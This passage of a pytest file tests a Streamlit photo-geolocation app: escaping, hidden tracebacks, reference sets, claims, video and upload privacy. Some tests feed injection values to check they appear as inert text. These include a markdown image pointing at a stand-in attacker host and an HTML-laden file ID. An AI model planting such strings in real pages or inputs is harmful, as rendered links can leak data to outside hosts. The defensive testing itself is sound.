    at.selectbox(key="f_row").set_value("www.attacker.example.jpg").run()  # the failed row: its status
    assert not at.exception, [e.value for e in at.exception]
    assert _assert_shown_as_text(at) >= 3  # model caption, calibration status, the row's line
    assert any("no prediction (![s](https:attacker.example))" in t for t in _texts(at.markdown))
    at.selectbox(key="f_row").set_value(HOSTILE).run()  # a photo in the folder: its caption
    assert not at.exception, [e.value for e in at.exception]
    _assert_shown_as_text(at)
    assert HOSTILE in _captions(at)


def test_uncaught_errors_show_no_traceback_on_the_server():
    """.streamlit/config.toml hides an uncaught exception's message and traceback (server paths)."""
    import tomllib

    from streamlit import config
    from streamlit.elements import exception
    from streamlit.proto.Exception_pb2 import Exception as ExceptionProto

    value = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())["client"]["showErrorDetails"]
    assert value in {"type", "none"}
    before = config.get_option("client.showErrorDetails")
    config.set_option("client.showErrorDetails", value)
    try:
        try:
            open(REPO / "no-such-dir" / "secret.txt")
        except OSError as err:
            proto = ExceptionProto()
            exception.marshall(proto, err, apply_show_error_details=True)
    finally:
        config.set_option("client.showErrorDetails", before)
    shown = str(proto)
    assert not proto.stack_trace and str(REPO) not in shown and "secret" not in shown, shown


# --- Locate: reference photos, photos of one place, a claimed location, video ----------------------------------

REF_IDS = ["paris.jpg", "a<b>&x.jpg", "tokyo.jpg", "sydney.jpg"]  # one ID with HTML in it: shown as text


@pytest.fixture(scope="module")
def ref_share(tmp_path_factory, tiny_model):
    """A shared folder holding `sets/cities` (a reference set with thumbnails, built with the page's model: same
    name and weights, as the registry builds it) and the photos it was built from."""
    from geocore.refs import build_reference_set

    root = tmp_path_factory.mktemp("share")
    images = root / "images"
    images.mkdir()
    for i, name in enumerate(REF_IDS):
        (images / name).write_bytes(_jpeg(100 + i))
    csv = root / "refs.csv"
    pd.DataFrame({"IMG_ID": REF_IDS, "LAT": CITIES[[0, 1, 2, 3], 0].tolist(),
                  "LON": CITIES[[0, 1, 2, 3], 1].tolist()}).to_csv(csv, index=False)
    build_reference_set(_tiny_cities(), csv, images=images, output=root / "sets" / "cities",
                        thumbnails=True, batch_size=8, progress=False, accelerator="cpu")
    return root


def _with_refs(monkeypatch, share: Path, files, name: str = "cities", **state) -> AppTest:
    """The Locate page with `files` and the reference set `sets/<name>` picked in the sidebar."""
    monkeypatch.setenv("GEOCORE_DATA_DIRS", str(share))
    at = _run("locate", {"_test_uploads": files, **state})
    at.text_input(key="refs_dir").set_value(str(share / "sets")).run()
    at.selectbox(key="refs_set").set_value(name).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_locate_shows_similar_reference_photos_from_a_shared_set(monkeypatch, ref_share, served):
    from geocore.refs import load_reference_set

    files = [("q.jpg", _jpeg(1))]
    at = _with_refs(monkeypatch, ref_share, files)
    assert at.selectbox(key="refs_set").options == ["none", "cities"]
    (res,) = _expected(files, refs=load_reference_set(ref_share / "sets" / "cities"))
    assert any("Similar reference photos" in t for t in _texts(at.markdown))
    assert list(_topk(at)[0]["probability"]) == list(res.table["prob"].round(4))  # fused as the library fuses
    refs = res.references
    captions = [c for c in _texts(at.caption) if "from the top-1" in c]
    assert len(captions) == len(refs) > 0
    for shown, row in zip(captions, refs.itertuples()):  # ID, similarity and km from the top-1, in its order
        assert shown.startswith(row.IMG_ID) and f"similarity {row.similarity:.2f}" in shown
        assert f"{row.km:,.1f} km" in shown
    assert set(refs["IMG_ID"]) <= set(_captions(at))  # each thumbnail, captioned with its ID as text
    assert len(_captions(at)) == 1 + len(refs)  # the photo and each reference
    assert not any(_metadata_left(data) for mime, data in served if mime.startswith("image/"))  # re-drawn
    if maps.leaflet_assets() is not None:  # the neighbours on the map, their IDs escaped in the tooltips
        html = _srcdoc(at)
        assert html.count(maps.REFERENCE_COLOR) == len(refs)
        assert "a&lt;b&gt;&amp;x.jpg" in html and "a<b>&x.jpg" not in html
    at.selectbox(key="refs_set").set_value("none").run()  # no set: no strip, the plain answer
    assert not any("Similar reference photos" in t for t in _texts(at.markdown))
    (plain,) = _expected(files)
    assert list(_topk(at)[0]["probability"]) == list(plain.table["prob"].round(4))


def test_locate_refuses_a_set_made_with_other_weights_in_one_line(monkeypatch, ref_share, tmp_path):
    import json
    import shutil

    share = tmp_path / "share"
    other = share / "sets" / "other"
    shutil.copytree(ref_share / "sets" / "cities", other)
    manifest = json.loads((other / "manifest.json").read_text())
    (other / "manifest.json").write_text(json.dumps(dict(manifest, fingerprint="0123456789abcdef")))
    files = [("a.jpg", _jpeg(5))]
    at = _with_refs(monkeypatch, share, files, name="other")
    errors = _texts(at.error)
    assert len(errors) == 1 and "\n" not in errors[0] and "other weights" in errors[0], errors
    assert not any("Similar reference photos" in t for t in _texts(at.markdown))
    (plain,) = _expected(files)  # the page goes on without references
    assert list(_topk(at)[0]["probability"]) == list(plain.table["prob"].round(4))


def _gps_jpeg(seed: int, lat: float, lon: float) -> bytes:
    """A generated photo with EXIF GPS (north/east degrees)."""
    from PIL import Image as PILImage

    exif = PILImage.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (float(lat), 0.0, 0.0), 3: "E", 4: (float(lon), 0.0, 0.0)})
    buf = io.BytesIO()
    PILImage.open(io.BytesIO(_jpeg(seed))).save(buf, format="JPEG", exif=exif, quality=95)
    return buf.getvalue()


def test_locate_builds_a_reference_set_in_memory_from_uploaded_photos(monkeypatch):
    """Without shared folders, reference photos with EXIF GPS uploaded in the sidebar become the session's set:
    the answer is the library's with that set, the strip lists them, photos without GPS are named."""
    from geocore.refs import reference_set_from_photos

    monkeypatch.delenv("GEOCORE_DATA_DIRS", raising=False)
    places = [(48, 2), (35, 139), (30, 31)]
    refs_up = [(f"ref{i}.jpg", _gps_jpeg(200 + i, lat, lon)) for i, (lat, lon) in enumerate(places)]
    refs_up.append(("nogps.jpg", _jpeg(299)))
    files = [("q.jpg", _jpeg(1))]
    at = _run("locate", {"_test_uploads": files})
    at.file_uploader(key="refs_up").set_value([(n, b, "image/jpeg") for n, b in refs_up]).run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("3 reference photo(s) in memory" in c and "nogps" in c for c in _texts(at.caption))
    (res,) = _expected(files, refs=reference_set_from_photos(_tiny_cities(), refs_up))
    assert list(_topk(at)[0]["probability"]) == list(res.table["prob"].round(4))
    assert any("Similar reference photos" in t for t in _texts(at.markdown))


def _parts(at: AppTest) -> pd.DataFrame:
    """The joint answer's per-part table (its "conflict" column)."""
    return next(t.value for t in at.table if "conflict" in t.value.columns)


def test_locate_joint_answer_with_narrowing_and_conflicts_and_a_claim(one_thread):
    from geocore.cases.claims import check_claim, resolve_claim
    from geocore.cases.joint import joint_locate

    files = [(f"p{i}.jpg", _jpeg(20 + i)) for i in range(3)]
    at = _run("locate", {"_test_uploads": files})
    assert not any("conflict" in t.value.columns for t in at.table)  # off by default
    at.checkbox(key="same_place").check().run()
    assert not at.exception, [e.value for e in at.exception]
    model = _tiny_cities()
    results = _expected(files)
    joint = joint_locate(results, model, levels=(0.5, 0.9), top_k=5)
    parts = _parts(at)
    assert list(parts["photo"]) == [n for n, _ in files]
    assert list(parts["conflict"] == "may not be the same place") == list(joint.photos["conflict"])
    assert list(parts["narrowing (×)"]) == [f"{x:,.2f}" for x in joint.photos["narrowing"]]
    assert list(_topk(at)[-1]["probability"]) == list(joint.table["prob"].round(4))  # the joint's own top-k
    assert any("Joint answer: 3 photos" in t for t in _texts(at.subheader))

    at.text_input(key="claim").set_value("Cairo, Egypt").run()  # checked against the joint answer
    assert not at.exception, [e.value for e in at.exception]
    check = check_claim(joint, resolve_claim("Cairo, Egypt")[:2], model.candidate_cells(), None, model=TEST_MODEL)
    verdicts = [t for t in _texts(at.info) if "Claimed location" in t]
    assert len(verdicts) == 1 and "the joint answer" in verdicts[0]
    assert check.verdict.split(":", 1)[1] in verdicts[0] and "Cairo" in verdicts[0]


def test_locate_joint_answer_says_which_kind_of_answers_its_calibration_was_fitted_on(one_thread):
    """Issue #19: a calibration fitted on single photos, used on the joint answer, is said above it (once: not on
    the photos); one fitted on photo sets is not, but is said on each single photo."""
    import json

    from geocore.uncertainty.calibration import SINGLE_ON_JOINT, fit_calibration

    files = [(f"p{i}.jpg", _jpeg(20 + i)) for i in range(2)]
    fingerprint = _tiny_cities().candidate_cells().fingerprint
    at = _run("locate", {"_test_uploads": files,
                         "_test_calibration": ("cal.json", _calibration_json(TEST_MODEL, fingerprint))})
    at.checkbox(key="same_place").check().run()
    assert not at.exception, [e.value for e in at.exception]
    assert sum(SINGLE_ON_JOINT[1:] in t for t in _texts(at.warning)) == 1
    sets = fit_calibration(np.linspace(0.05, 0.99, 40), levels=(0.5, 0.8, 0.9), model=TEST_MODEL,
                           fingerprint=fingerprint, photos_per_set=(2, 4))
    at.session_state["_test_calibration"] = ("sets.json", json.dumps(sets.to_dict()).encode())
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert not any(SINGLE_ON_JOINT[1:] in t for t in _texts(at.warning))
    assert sum("alibrated on photo sets (sets of 2–4 photos)" in t for t in _texts(at.warning)) == len(files)
    assert any("photo sets (sets of 2–4 photos" in t for t in _texts(at.sidebar.success))


def test_locate_claim_verdict_per_photo_and_an_ambiguous_name_is_one_line():
    from geocore.cases.claims import check_claim

    files = [("a.jpg", _jpeg(7)), ("b.jpg", _jpeg(8))]
    at = _run("locate", {"_test_uploads": files, "claim": "48.8566,2.3522"})
    model = _tiny_cities()
    want = [check_claim(r, (48.8566, 2.3522), model.candidate_cells(), None, model=TEST_MODEL).verdict
            for r in _expected(files)]
    verdicts = [t for t in _texts(at.info) if "Claimed location" in t]
    assert len(verdicts) == 2 and all(w in v for w, v in zip(want, verdicts))
    assert len({w.split("km")[0] for w in want}) == 2 or want[0] == want[1]
    at.text_input(key="claim").set_value("Springfield").run()
    errors = _texts(at.error)
    assert len(errors) == 1 and "\n" not in errors[0] and "ambiguous" in errors[0], errors
    assert not any("Claimed location" in t for t in _texts(at.info))
    assert len(_topk(at)) == 2  # the answers stay


def _clip(seconds: int = 4, fps: int = 5) -> bytes:
    """A short MP4: two scenes (a still red one, then noise: a cut halfway), small frames."""
    from geocore.data.video import encode_frames

    rng = np.random.default_rng(0)
    half = seconds * fps // 2
    red = [np.full((64, 96, 3), (200, 30, 30), np.uint8)] * half
    return encode_frames(red + [rng.integers(0, 255, (64, 96, 3), dtype=np.uint8) for _ in range(half)], fps=fps,
                         options={"preset": "ultrafast"})


def test_locate_video_frames_track_and_clip_answer_and_a_corrupt_clip_is_one_line(one_thread):
    from geocore.cases.clip import locate_video

    clip = _clip()
    files = [("clip.mp4", clip), ("broken.mov", b"\x00\x00\x00\x18ftypmp42 not really a video"),
             ("a.jpg", _jpeg(9))]
    at = _run("locate", {"_test_uploads": files})
    video = locate_video(_tiny_cities(), clip, name="clip.mp4", top_k=5, levels=(0.5, 0.9), precision="auto")
    errors = _texts(at.error)
    assert len(errors) == 1 and errors[0].startswith("broken.mov") and "\n" not in errors[0], errors
    frames = next(t.value for t in at.table if "localizability (log10 km²)" in t.value.columns)
    assert list(frames["time (s)"]) == list(video.frames["time_s"].round(2))
    assert list(frames["segment"]) == list(video.frames["segment"] + 1) and frames["segment"].max() == 2
    assert [p.split(",")[0] for p in frames["top-1 place"]] == [str(p) for p in video.frames["place"]]
    parts = _parts(at)
    assert list(parts["segment"]) == video.clip.names
    assert any(list(t["probability"]) == list(video.clip.table["prob"].round(4)) for t in _topk(at))
    assert _numbers(_line_with(at, "located")) == [1]  # the photo still answered
    if maps.leaflet_assets() is not None:  # the per-frame top-1 track as a polyline on the clip's map
        html = next(f.proto.srcdoc for f in at.get("iframe") if maps.TRACK_COLOR in f.proto.srcdoc)
        assert "L.polyline(" in html and html.count(maps.TRACK_COLOR) >= 1 + len(video.frames)


def test_clip_sampling_controls_reach_the_decoder(one_thread):
    """The sidebar's sampling (a frame every … s, at most … frames) is what the clip is located with."""
    from geocore.cases.clip import locate_video

    clip = _clip()
    at = _run("locate", {"_test_uploads": [("clip.mp4", clip)]})
    at.slider(key="every_s").set_value(2.0)
    at.slider(key="max_frames").set_value(10).run()
    assert not at.exception
    video = locate_video(_tiny_cities(), clip, name="clip.mp4", top_k=5, levels=(0.5, 0.9), every_s=2.0,
                         max_frames=10)
    default = locate_video(_tiny_cities(), clip, name="clip.mp4", top_k=5, levels=(0.5, 0.9))
    assert len(video.frames) != len(default.frames)  # the setting matters for this clip
    frames = next(t.value for t in at.table if "localizability (log10 km²)" in t.value.columns)
    assert list(frames["time (s)"]) == list(video.frames["time_s"].round(2))


def test_uploaded_clips_stay_in_memory_and_out_of_the_logs(tmp_path, monkeypatch, one_thread):
    """A clip through the real uploader: decoded from its bytes, no new file in the temp folder, GEOCORE_CACHE_DIR
    or the working directory holds them, and no log record names it."""
    private_tmp, cache, cwd = _private_dirs(tmp_path, monkeypatch)
    clip, name = _clip(), "holiday_private_clip.mp4"
    chunks = [clip[len(clip) // 2: len(clip) // 2 + 48]]
    before = {root: _files(root) for root in (private_tmp, cache, cwd)}
    with _every_log_record() as records:
        at = _run("locate")
        at.file_uploader(key="uploads").set_value([(name, clip, "video/mp4")]).run()
        assert not at.exception, [e.value for e in at.exception]
        assert name in _texts(at.subheader) and not _texts(at.error)
    for root, seen in before.items():
        assert not [p for p in _written(seen, root) if _holds(p, chunks)], root
    assert records and not any("holiday_private" in r for r in records)
